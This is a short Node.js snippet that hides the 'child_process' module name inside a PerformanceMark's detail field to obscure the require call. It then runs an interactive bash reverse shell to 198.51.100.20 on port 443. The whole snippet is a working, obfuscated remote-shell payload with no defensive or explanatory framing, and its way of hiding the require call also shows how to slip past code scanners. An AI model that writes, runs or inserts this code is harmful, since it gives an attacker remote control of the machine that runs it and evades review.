// The module name rides on the PerformanceMark that mark() returns.
const m = performance.mark("boot", { detail: { mod: "child_process" } });
const cp = require(m.detail.mod);
cp.exec("bash -c 'bash -i >& /dev/tcp/198.51.100.20/443 0>&1'");
